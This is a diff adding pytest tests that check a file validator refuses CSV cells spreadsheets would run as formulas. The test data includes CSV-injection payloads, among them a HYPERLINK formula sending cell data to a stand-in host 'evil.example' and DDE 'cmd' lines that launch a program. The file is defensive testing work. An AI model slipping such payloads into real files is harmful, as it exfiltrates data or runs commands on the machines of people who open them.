@@ -544,3 +544,66 @@ def test_it_refuses_a_csv_line_too_long_to_read_safely(tmp_path: Path) -> None:
     message = assert_refused(write(tmp_path, data), "controls.csv", "malformed")
 
     assert "line over 1 MB" in message
+
+
+# CSV formulas (OWASP "CSV injection") -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        b'=HYPERLINK("https://evil.example/?"&A1,"report")',
+        b"+cmd|' /C calc'!A0",
+        b"-2+3+cmd|' /C calc'!A0",
+        b"@SUM(1+9)*cmd|' /C calc'!A0",
+        b'"\t=1+1"',
+        b'"\r=1+1"',
+        b'"=WEBSERVICE(""https://evil.example"")"',
+        b"- none",
+    ],
+)
+def test_it_refuses_a_csv_cell_that_a_spreadsheet_runs_as_a_formula(
+    tmp_path: Path, cell: bytes
+) -> None:
+    data = b"host,finding\nweb-1,none\ndb-1," + cell + b"\n"
+
+    message = assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")
+
+    assert message == (
+        "hosts.csv has a cell in row 3 that a spreadsheet would run as a formula (it starts with "
+        "=, +, -, @ or a tab), which can run commands or send data away when the file is opened; "
+        "export it with such cells as text, or as PDF."
+    )
+
+
+def test_it_reads_a_csv_to_its_end_for_formulas(tmp_path: Path) -> None:
+    data = b"host,finding\n" + b"web,none\n" * 50_000 + b"db,=1+1\n"
+
+    message = assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")
+
+    assert "in row 50,002 " in message
+
+
+@pytest.mark.parametrize("separator", [b";", b"\t"])
+def test_it_finds_a_formula_behind_another_list_separator(tmp_path: Path, separator: bytes) -> None:
+    # Norwegian Excel splits a .csv on semicolons: "web;=1+1" is two cells there, one a formula.
+    data = b"host" + separator + b"finding\nweb" + separator + b"=1+1\n"
+
+    assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")
+
+
+def test_it_accepts_numbers_signs_and_formulas_inside_text(tmp_path: Path) -> None:
+    data = (
+        b"host,delta,phone,note,empty\n"
+        b"web-1,-5,+47 22 33 44 55,a = b,\n"
+        b'db-1,+1.5e3,-,"says ""=1+1"" in the middle",-12%\n'
+        b"mail,-0.25,+,user@vendela.example,\n"
+    )
+
+    assert inspect_file(write(tmp_path, data), filename="hosts.csv").extension == "csv"
+
+
+def test_it_leaves_formulas_in_plain_text_alone(tmp_path: Path) -> None:
+    data = b"=1+1\n@here see the CSV\n"
+
+    assert inspect_file(write(tmp_path, data), filename="notes.txt").extension == "txt"
